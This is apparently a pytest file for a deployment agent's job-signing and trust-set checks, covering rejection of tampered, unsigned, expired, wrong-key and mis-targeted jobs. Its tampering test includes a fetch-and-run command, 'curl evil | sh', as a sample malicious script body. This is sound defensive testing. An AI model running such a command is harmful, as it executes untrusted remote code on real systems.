"""Signed work: canonical encoding, signing, and the agent's verification of a job against its
trust set (tampered body, wrong key, expired, wrong deployment, flipped rollback flag...)."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from google.protobuf import json_format, struct_pb2

from agent import trust_set
from agent.state import StateDir
from common import signing

NOW = datetime(2026, 12, 2, 3, 0, tzinfo=UTC)
CLIENT = "11111111-1111-4111-8111-111111111111"
DEP = "22222222-2222-4222-8222-222222222222"
PAYLOAD: dict[str, Any] = {"interpreter": "sh", "body": "echo hi > /tmp/x\n", "scriptId": "s1",
                           "parameters": {"count": 3, "ratio": 0.5, "name": "ü", "flag": True, "none": None}}


def key() -> signing.Signer:
    pem, _ = signing.generate_private_key()
    return signing.Signer(pem)


def manifest(payload: dict[str, Any] = PAYLOAD, **over: Any) -> signing.Manifest:
    base = signing.Manifest(deployment_id=DEP, client_id=CLIENT, type="script", digest=signing.payload_digest(payload),
                            rollback=False, expires_at=NOW + timedelta(days=1))
    return replace(base, **over)


def through_struct(payload: dict[str, Any]) -> dict[str, Any]:
    """What the agent's journal holds: the payload after the protobuf Struct (numbers as doubles)."""
    s = struct_pb2.Struct()
    json_format.ParseDict(payload, s)
    return dict(json_format.MessageToDict(s))


# --- encoding ---------------------------------------------------------------------------------


def test_canonical_is_sorted_compact_utf8() -> None:
    assert signing.canonical({"b": 1, "a": [True, None, "é"]}) == '{"a":[true,null,"é"],"b":1}'.encode()


def test_canonical_survives_the_struct_round_trip() -> None:
    assert through_struct(PAYLOAD)["parameters"]["count"] == 3.0  # the Struct made it a double
    assert signing.canonical(through_struct(PAYLOAD)) == signing.canonical(PAYLOAD)
    assert signing.payload_digest(through_struct(PAYLOAD)) == signing.payload_digest(PAYLOAD)


def test_canonical_never_fails_on_a_lone_surrogate() -> None:
    assert signing.canonical({"b": "\ud800"}) == signing.canonical(json.loads('{"b": "\\ud800"}'))


def test_canonical_refuses_nan() -> None:
    with pytest.raises(signing.SigningError):
        signing.canonical({"x": float("nan")})


def test_manifest_round_trip_and_strict_parse() -> None:
    m = manifest()
    assert signing.Manifest.parse(m.encode()) == m
    raw = m.to_dict()
    with pytest.raises(signing.SigningError, match="unknown"):
        signing.Manifest.parse({**raw, "extra": 1})
    with pytest.raises(signing.SigningError, match="missing"):
        signing.Manifest.parse({k: v for k, v in raw.items() if k != "expiresAt"})
    with pytest.raises(signing.SigningError, match="rollback"):
        signing.Manifest.parse({**raw, "rollback": "no"})


def test_public_key_text() -> None:
    s = key()
    raw = signing.parse_public_key(s.public_key)
    assert len(raw) == 32 and signing.key_id(raw) == s.key_id and len(s.key_id) == 32
    for bad in ("ssh-ed25519 AAAA", "ed25519:!!!", "ed25519:" + "QUFB"):
        with pytest.raises(signing.SigningError):
            signing.parse_public_key(bad)


# --- signatures -------------------------------------------------------------------------------


def test_sign_and_verify() -> None:
    s = key()
    signed = signing.sign_manifest(s, manifest())
    doc = signed["manifest"].encode()
    assert signing.verify(s.public_key, signing.SIGNING_CONTEXT, doc, signed["value"])
    assert not signing.verify(key().public_key, signing.SIGNING_CONTEXT, doc, signed["value"])  # wrong key
    assert not signing.verify(s.public_key, signing.SIGNING_CONTEXT, doc.replace(b"false", b"true"), signed["value"])
    # a manifest signature is not a trust-set signature
    assert not signing.verify(s.public_key, signing.TRUST_SET_CONTEXT, doc, signed["value"])
    assert not signing.verify(s.public_key, signing.SIGNING_CONTEXT, doc, "not base64!")


# --- the agent's check ------------------------------------------------------------------------


def check(trust: trust_set.TrustSet, signed: dict[str, str], *, payload: dict[str, Any] = PAYLOAD,
          deployment_id: str = DEP, type_: str = "script", rollback: bool = False,
          now: datetime = NOW) -> str | None:
    return trust.check_job(deployment_id=deployment_id, type_=type_, payload=through_struct(payload),
                           rollback=rollback, manifest=signed["manifest"], key_id=signed["keyId"],
                           signature=signed["value"], now=now)


@pytest.fixture
def signer() -> signing.Signer:
    return key()


@pytest.fixture
def trust(signer: signing.Signer) -> trust_set.TrustSet:
    return trust_set.TrustSet(client_id=CLIENT, serial=0, keys=(signer.public_key,))


def test_signed_job_passes(trust: trust_set.TrustSet, signer: signing.Signer) -> None:
    assert check(trust, signing.sign_manifest(signer, manifest())) is None


def test_unsigned_job_refused(trust: trust_set.TrustSet) -> None:
    assert "no signature" in str(check(trust, {"manifest": "", "keyId": "", "value": ""}))


def test_tampered_body_refused(trust: trust_set.TrustSet, signer: signing.Signer) -> None:
    signed = signing.sign_manifest(signer, manifest())
    evil = {**PAYLOAD, "body": "curl evil | sh\n"}
    assert "does not match the signed digest" in str(check(trust, signed, payload=evil))
    evil_params = {**PAYLOAD, "parameters": {**PAYLOAD["parameters"], "count": 4}}
    assert "digest" in str(check(trust, signed, payload=evil_params))
    assert "digest" in str(check(trust, signed, payload={**PAYLOAD, "interpreter": "python"}))


def test_wrong_key_refused(trust: trust_set.TrustSet) -> None:
    other = key()
    assert "does not trust" in str(check(trust, signing.sign_manifest(other, manifest())))
    # a trusted key id with another key's signature
    forged = signing.sign_manifest(other, manifest())
    forged["keyId"] = next(iter(trust.by_id))
    assert "does not verify" in str(check(trust, forged))


def test_edited_manifest_refused(trust: trust_set.TrustSet, signer: signing.Signer) -> None:
    signed = signing.sign_manifest(signer, manifest())
    later = manifest(expires_at=NOW + timedelta(days=365)).encode().decode()
    assert "does not verify" in str(check(trust, {**signed, "manifest": later}))


def test_expired_refused(trust: trust_set.TrustSet, signer: signing.Signer) -> None:
    signed = signing.sign_manifest(signer, manifest(expires_at=NOW - timedelta(seconds=1)))
    assert "expired" in str(check(trust, signed))
    assert check(trust, signing.sign_manifest(signer, manifest()), now=NOW + timedelta(days=2)) is not None


def test_wrong_deployment_or_client_or_type_refused(trust: trust_set.TrustSet, signer: signing.Signer) -> None:
    signed = signing.sign_manifest(signer, manifest())
    assert "not 3333" in str(check(trust, signed, deployment_id="33333333-3333-4333-8333-333333333333"))
    other_client = signing.sign_manifest(signer, manifest(client_id="44444444-4444-4444-8444-444444444444"))
    assert "client" in str(check(trust, other_client))
    assert "policy" in str(check(trust, signed, type_="policy"))


def test_rollback_flag_flipped_refused(trust: trust_set.TrustSet, signer: signing.Signer) -> None:
    signed = signing.sign_manifest(signer, manifest())
    assert check(trust, signed, rollback=True) is not None  # names no reverted deployment
    named = {**PAYLOAD, "revertsDeploymentId": DEP}
    signed = signing.sign_manifest(signer, manifest(named))
    assert "rollback flag" in str(check(trust, signed, payload=named, rollback=True))
    # a signed rollback: the manifest names the reverted deployment, inside the payload
    rb_payload = {**PAYLOAD, "body": "undo\n", "revertsDeploymentId": DEP}
    rb = signing.sign_manifest(signer, manifest(rb_payload, rollback=True))
    assert check(trust, rb, payload=rb_payload, rollback=True, deployment_id="any-new-rollback-id") is None
    assert "rollback flag" in str(check(trust, rb, payload=rb_payload, rollback=False,
                                        deployment_id=DEP))


# --- trust-set updates ------------------------------------------------------------------------


def test_trust_set_update_signed_by_trusted_key(tmp_path: Path, trust: trust_set.TrustSet,
                                                signer: signing.Signer) -> None:
    new = key()
    doc = signing.trust_document(CLIENT, 1, [new.public_key])
    updated = trust.updated(doc.decode(), signer.key_id, signer.sign(signing.TRUST_SET_CONTEXT, doc))
    assert updated is not None and updated.keys == (new.public_key,) and updated.serial == 1
    # not newer: ignored
    assert updated.updated(doc.decode(), new.key_id, new.sign(signing.TRUST_SET_CONTEXT, doc)) is None
    # signed by a key the set does not hold, or with the wrong context, or for another client
    with pytest.raises(trust_set.TrustError, match="does not trust"):
        trust.updated(doc.decode(), new.key_id, new.sign(signing.TRUST_SET_CONTEXT, doc))
    with pytest.raises(trust_set.TrustError, match="does not verify"):
        trust.updated(doc.decode(), signer.key_id, signer.sign(signing.SIGNING_CONTEXT, doc))
    other = signing.trust_document("55555555-5555-4555-8555-555555555555", 2, [new.public_key])
    with pytest.raises(trust_set.TrustError, match="client"):
        trust.updated(other.decode(), signer.key_id, signer.sign(signing.TRUST_SET_CONTEXT, other))


def test_apply_update_persists_only_valid(tmp_path: Path, trust: trust_set.TrustSet, signer: signing.Signer) -> None:
    state = StateDir(tmp_path)
    trust_set.save(state, trust)
    assert (tmp_path / "trust.json").stat().st_mode & 0o777 == 0o644
    new = key()
    doc = signing.trust_document(CLIENT, 5, [new.public_key, signer.public_key])
    trust_set.apply_update(state, doc.decode(), new.key_id, new.sign(signing.TRUST_SET_CONTEXT, doc))
    assert trust_set.load(state) == trust  # refused: unchanged
    trust_set.apply_update(state, doc.decode(), signer.key_id, signer.sign(signing.TRUST_SET_CONTEXT, doc))
    loaded = trust_set.load(state)
    assert loaded is not None and loaded.serial == 5 and set(loaded.keys) == {new.public_key, signer.public_key}


def test_unreadable_trust_file_is_an_error_not_no_trust(tmp_path: Path) -> None:
    state = StateDir(tmp_path)
    assert trust_set.load(state) is None
    (tmp_path / "trust.json").write_text(json.dumps({"clientId": CLIENT, "serial": 0, "keys": []}))
    with pytest.raises(trust_set.TrustError):
        trust_set.load(state)


def test_parse_keys_from_text_and_file(tmp_path: Path, signer: signing.Signer) -> None:
    f = tmp_path / "k.pub"
    f.write_text(signer.public_key + "\n")
    assert trust_set.parse_keys([str(f), signer.public_key]) == [signer.public_key]
    with pytest.raises(trust_set.TrustError):
        trust_set.parse_keys(["ed25519:short"])


# --- the runner: the check comes first, also for a job recovered from the journal --------------


def _job(job_id: str, payload: dict[str, Any], signed: dict[str, str] | None, **kw: Any) -> Any:
    from common.convoy.v1 import agent_pb2

    s = struct_pb2.Struct()
    json_format.ParseDict(payload, s)
    sig = signed or {}
    return agent_pb2.Job(job_id=job_id, deployment_id=DEP, attempt=1, type="script", payload=s,
                         manifest=sig.get("manifest", ""), signature_key_id=sig.get("keyId", ""),
                         signature=sig.get("value", ""), **kw)


def test_runner_refuses_before_anything_runs_and_runs_signed_work(tmp_path: Path, trust: trust_set.TrustSet,
                                                                  signer: signing.Signer) -> None:
    import asyncio

    from agent.journal import Journal
    from agent.runner import Runner
    from common.clock import FakeClock

    state = StateDir(tmp_path / "state")
    state.root.mkdir()
    trust_set.save(state, trust)
    marker = tmp_path / "ran"
    payload = {"interpreter": "sh", "body": f"touch {marker}-$CONVOY_JOB_ID\n", "parameters": {}}
    good = signing.sign_manifest(signer, manifest(payload))
    journal = Journal(state.journal_dir)
    # Journaled by an earlier run of the agent (a crash before the check): still checked now.
    journal.record_received(_job("unsigned", payload, None, respect_maintenance_windows=True))
    journal.record_received(_job("tampered", {**payload, "body": f"touch {marker}-evil\n"}, good))
    journal.record_received(_job("signed", payload, good))
    # a software job that would be held for its window (artifact fetched now): refused first
    software = {"artifact": {"sha256": "ab" * 32, "size": 10, "name": "x.deb", "kind": "deb"}, "action": "install"}
    held = _job("held", software, None, respect_maintenance_windows=True, window_wait_max_seconds=3600)
    held.type = "software"
    journal.record_received(held)
    statuses: list[Any] = []

    async def fetch(_sha: str, _size: int | None) -> Path:
        raise AssertionError("nothing is downloaded")

    async def go() -> None:
        runner = Runner(state=state, journal=journal, device_id="dev", emit=statuses.append, fetch=fetch,
                        windows=lambda: ["Sat 01:00-01:01 UTC"], clock=FakeClock(NOW))
        for entry in journal.runnable():
            runner.submit(entry.job_id)
        while runner.busy:
            await asyncio.sleep(0.02)

    asyncio.run(go())
    got = {j: (e.state, e.reason) for j in ("unsigned", "tampered", "signed", "held") if (e := journal.get(j))}
    assert got["held"] == ("failed", signing.SIGNATURE_REASON)  # never fetched, never held
    assert [st.state for st in statuses if st.job_id == "held"] == ["failed"]
    # outside its window (NOW is a Wednesday), yet failed for its signature: the check comes first
    assert got["unsigned"] == ("failed", signing.SIGNATURE_REASON)
    assert got["tampered"] == ("failed", signing.SIGNATURE_REASON)
    assert "digest" in journal.get("tampered").output  # type: ignore[union-attr]
    assert got["signed"][0] == "completed"
    assert sorted(p.name for p in tmp_path.glob("ran-*")) == ["ran-signed"]
